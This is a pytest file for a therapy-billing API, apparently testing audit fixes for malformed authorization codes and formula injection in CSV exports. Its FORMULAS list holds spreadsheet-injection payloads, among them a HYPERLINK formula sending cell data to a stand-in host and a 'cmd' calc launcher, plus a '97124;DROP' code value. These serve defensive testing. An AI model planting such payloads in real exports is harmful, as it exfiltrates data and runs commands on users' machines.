"""Findings 10 and 12: an authorization with an empty procedure code is refused at input;
CSV exports never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from tests.e2e.api.conftest import bearer, token_for
from tests.e2e.api.world import World
from tests.integration.db.builders import ACTOR, AS_OF, a_practice, a_visit
from therabill.adapters.db import migrations
from therabill.adapters.db.engine import make_engine
from therabill.adapters.db.tables import patients
from therabill.security.csvcell import safe_cell
from therabill.service_layer import claims as claims_svc
from therabill.service_layer import ledger
from therabill.service_layer.interop import export_claims, export_ledger

# --- finding 10 -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "codes", [[""], ["   "], ["97124", ""], ["9712"], ["97124;DROP"], ["97124", "97124"]]
)
def test_authorization_with_a_bad_procedure_code_is_refused(
    client: TestClient, world: World, codes: list[str]
) -> None:
    token = token_for(world, "a", "biller")
    url = f"/api/v1/coverages/{world.a.coverage_id}/authorizations"
    before = client.get(url, headers=bearer(token)).json()
    r = client.post(
        url, json={"number": "PA-EMPTY", "codes": codes, "visits_allowed": 4}, headers=bearer(token)
    )
    assert r.status_code == 422, r.text
    problem = r.json()["error"]["problems"][0]
    assert problem["code"].startswith("authorization-code-") and problem["loc"].startswith("codes[")
    assert client.get(url, headers=bearer(token)).json() == before


def test_good_authorization_codes_are_normalised(client: TestClient, world: World) -> None:
    token = token_for(world, "a", "biller")
    url = f"/api/v1/coverages/{world.a.coverage_id}/authorizations"
    r = client.post(url, json={"number": "PA-OK", "codes": [" 97124", "g0283"]}, headers=bearer(token))
    assert r.status_code == 201, r.text
    assert r.json()["codes"] == ["97124", "G0283"]


def test_blank_number_and_reversed_dates_are_refused(client: TestClient, world: World) -> None:
    token = token_for(world, "a", "biller")
    url = f"/api/v1/coverages/{world.a.coverage_id}/authorizations"
    r = client.post(url, json={"number": "   "}, headers=bearer(token))
    assert r.status_code == 422
    r = client.post(
        url,
        json={"number": "PA-R", "start_date": "2026-12-01", "end_date": "2026-11-01"},
        headers=bearer(token),
    )
    assert r.status_code == 422 and r.json()["error"]["problems"][0]["loc"] == "end_date"


# --- finding 12 -------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|x",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_formulas(value: str) -> None:
    assert safe_cell(value).startswith("'")


@pytest.mark.parametrize("value", ["-12.50", "35.00", "0", "Doe, Jane", "#title"])
def test_safe_cell_keeps_numbers_and_text(value: str) -> None:
    assert safe_cell(value) == value


def test_claim_and_ledger_exports_hold_no_formula(tmp_path: Path) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 'csv.sqlite3'}")
    migrations.upgrade(engine)
    p = a_practice(engine)
    visit = a_visit(p)
    coded = claims_svc.code_visit(engine, p.id, ACTOR, visit, as_of=AS_OF)
    ledger.post_claim_charges(engine, p.id, ACTOR, coded.claim_id)
    with engine.begin() as conn:
        conn.execute(
            update(patients)
            .where(patients.c.id == p.patient_id)
            .values(last_name=FORMULAS[0], first_name=FORMULAS[1], chart_number=FORMULAS[2])
        )
    for text in (export_claims(engine, p.id, ACTOR), export_ledger(engine, p.id, ACTOR)):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert any("HYPERLINK" in c for c in cells)
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a plain number may start with a sign
    engine.dispose()
